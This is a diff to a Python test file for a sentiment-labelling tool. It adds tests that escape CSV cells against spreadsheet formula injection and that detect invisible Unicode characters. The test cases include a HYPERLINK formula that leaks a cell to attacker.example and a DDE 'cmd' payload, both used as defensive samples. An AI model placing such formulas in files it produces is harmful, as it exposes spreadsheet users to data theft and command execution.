@@ -21,7 +21,18 @@ from lorasent.cli import main
 from lorasent.params import merge, parse_params, read_yaml, update_params
 from lorasent.stages.fetch import SourceError, fetch_dataset, read_labelled, read_source
 from lorasent.stages.split import run_split
-from lorasent.tables import Table, TableError
+from lorasent.tables import (
+    DEFAULT_IGNORABLE,
+    Table,
+    TableError,
+    character_name,
+    invisible_characters,
+    is_ignorable,
+    spreadsheet_cell,
+    spreadsheet_text,
+    without_ignorable,
+    written_for_people,
+)
 from lorasent.tools.predict import InputError, kept_names, open_inputs
 
 
@@ -444,3 +455,79 @@ def test_random_rows_come_back_unchanged(tmp_path, suffix, rows):
     assume(expected)
     assert _fetch(path) == expected
     assert _predict(path) == [t for t, _ in expected]
+
+
+# ------------------------------- issue 51: CSV cells for spreadsheets, invisible characters
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ('=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
+     '\'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("'tis", "''tis"), ("'=1", "''=1"), ("''", "'''"),
+    # numbers stay numbers: a spreadsheet runs nothing in them
+    ("-0.96", "-0.96"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-.5", "-.5"), (-3, -3),
+    (0.25, 0.25), ("a=b", "a=b"), ("", ""), ("1-2", "1-2"), ("-", "'-"), ("-inf", "'-inf"),
+])
+def test_a_formula_cell_gets_a_quote_and_reads_back(value, cell):
+    assert spreadsheet_cell(value) == cell
+    if isinstance(value, str):
+        assert spreadsheet_text(cell) == value
+
+
+@settings(max_examples=200, deadline=None)
+@given(text=texts)
+def test_every_text_reads_back_and_no_cell_starts_a_formula(text):
+    cell = spreadsheet_cell(text)
+    assert spreadsheet_text(cell) == text
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == text
+
+
+@pytest.mark.parametrize(("names", "command"), [
+    (["id", "text", "label", "p_a", "p_b", "note"], "predict"),
+    (["text", "label", "p_a", "note", "abstained"], "predict"),
+    (["'=x", "text", "label", "predicted", "p_a", "p_b", "margin", "rank", "given_label",
+      "reason"], "queue"),
+    (["text", "label", "predicted", "p_a", "entropy", "rank", "given_label", "reason"],
+     "queue"),
+    (["text", "label"], None), (["text", "label", "note"], None),
+    (["text", "predicted", "p_a", "margin", "rank", "given_label", "reason"], None),
+])
+def test_the_csvs_written_for_people_are_told_by_their_header(names, command):
+    assert written_for_people(names) == command
+
+
+def test_a_csv_written_for_people_is_read_back_as_written_and_another_as_it_is(tmp_path):
+    people = tmp_path / "people.csv"
+    people.write_text("'=id,text,label,p_a,note\n'-1x,'=1+1,'@a,0.5,\n", encoding="utf-8")
+    with Table(people, required={"text": "--text-column"}) as table:
+        assert table.columns == ["=id", "text", "label", "p_a", "note"]
+        assert [row for _, row in table.rows()] == [
+            {"=id": "-1x", "text": "=1+1", "label": "@a", "p_a": "0.5", "note": ""}]
+    other = tmp_path / "other.csv"  # not lorasent's header: every character kept
+    other.write_text("text,label\n'=1+1,'a\n", encoding="utf-8")
+    assert _fetch(other) == [("'=1+1", "'a")]
+
+
+def test_the_default_ignorable_ranges_are_unicodes():
+    """DEFAULT_IGNORABLE against the regex module's Default_Ignorable_Code_Point (the
+    Unicode Character Database it was built with)."""
+    import regex  # type: ignore[import-untyped]  # no stubs in the lock; a test alone reads it
+
+    prop = regex.compile(r"\p{Default_Ignorable_Code_Point}")
+    listed = {cp for first, last in DEFAULT_IGNORABLE for cp in range(first, last + 1)}
+    every = "".join(map(chr, range(0x110000)))
+    assert listed == {ord(m.group()) for m in prop.finditer(every)}
+    assert all(is_ignorable(ch) for ch in "\u200b\u00ad\ufeff\u2060\u3164\U000e0041")
+    assert not any(is_ignorable(ch) for ch in "a \u00a0\u0301\u0600")
+    assert without_ignorable("I\u200b lo\u00adve\ufeff it\u2060") == "I love it"
+
+
+@pytest.mark.parametrize(("text", "found"), [
+    ("neg\u200b", [(4, "U+200B ZERO WIDTH SPACE")]),
+    ("\ufeffa\u00adb", [(1, "U+FEFF ZERO WIDTH NO-BREAK SPACE"), (3, "U+00AD SOFT HYPHEN")]),
+    ("a\u2060\u0600", [(2, "U+2060 WORD JOINER"), (3, "U+0600 ARABIC NUMBER SIGN")]),
+    ("café 消极 e\u0301", []),
+])
+def test_invisible_characters_are_found_and_named(text, found):
+    assert [(i, character_name(ch)) for i, ch in invisible_characters(text)] == found
